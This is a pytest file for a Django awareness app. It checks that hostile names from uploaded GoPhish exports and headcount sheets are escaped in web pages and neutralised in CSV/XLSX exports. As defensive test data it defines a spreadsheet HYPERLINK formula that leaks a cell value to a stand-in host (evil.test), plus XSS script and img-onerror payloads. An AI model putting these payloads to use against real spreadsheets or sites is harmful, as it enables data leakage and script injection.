"""Names that come from users' files (a GoPhish export's file name and positions, a sign-in
sheet's professions) are neutralised in the awareness CSV/XLSX exports and escaped in pages."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape
from openpyxl import load_workbook

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Cliquez")'
SCRIPT = "<script>alert('careops')</script>"
IMAGE = "<img src=x onerror=alert(1)>"  # a file name cannot hold a slash
HEADER = (
    "id,status,ip,latitude,longitude,send_date,reported,modified_date,email,first_name,"
    "last_name,position"
)


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def test_phishing_and_share_exports_and_pages_neutralise_hostile_names(client, org_tree, make_user):
    rssi = make_user("es_rssi", org_tree.ej_a)
    client.force_login(rssi)
    lines = [HEADER]
    for index, position in enumerate([SCRIPT, f"'{FORMULA}", "Infirmier"]):
        quoted = '"' + position.replace('"', '""') + '"'
        lines.append(
            f"r{index},Clicked Link,,0,0,2026-03-10T09:00:00Z,false,,a{index}@x.fr,A,B,{quoted}"
        )
    export = SimpleUploadedFile(f"{IMAGE} - Results.csv", ("\n".join(lines) + "\n").encode())
    response = client.post(
        reverse("awareness:phishing"), {"organisation": org_tree.ej_a.pk, "export": export}
    )
    assert response.status_code == 302, response.content.decode()[-1500:]
    detail = client.get(response["Location"]).content.decode()
    listing = client.get(reverse("awareness:phishing")).content.decode()
    assert SCRIPT not in detail and "&lt;script&gt;" in detail  # a position
    for page in (detail, listing):
        assert IMAGE not in page and "&lt;img src=x" in page  # the campaign's name
    assert escape(FORMULA) in detail  # shown as text in the page

    headcounts = SimpleUploadedFile(
        "effectifs.csv",
        f'Profession;Effectif\n"{FORMULA.replace(chr(34), chr(34) * 2)}";4\n'.encode(),
    )
    response = client.post(
        reverse("awareness:headcounts"),
        {"form": "import", "import-organisation": org_tree.ej_a.pk, "import-sheet": headcounts},
    )
    assert response.status_code == 302
    query = f"?organisation={org_tree.ej_a.pk}"
    shares = client.get(reverse("awareness:shares_export", args=["csv"]) + query)
    cells = [c for row in _rows(shares.content.decode()) for c in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    book = load_workbook(
        io.BytesIO(client.get(reverse("awareness:shares_export", args=["xlsx"]) + query).content)
    )
    assert not [
        c.coordinate for ws in book for r in ws.iter_rows() for c in r if c.data_type == "f"
    ]
    phishing = client.get(reverse("awareness:phishing_export", args=["csv"]))
    names = [row[1] for row in _rows(phishing.content.decode())[1:]]
    assert names == [IMAGE]  # a name that is not a formula stays as written
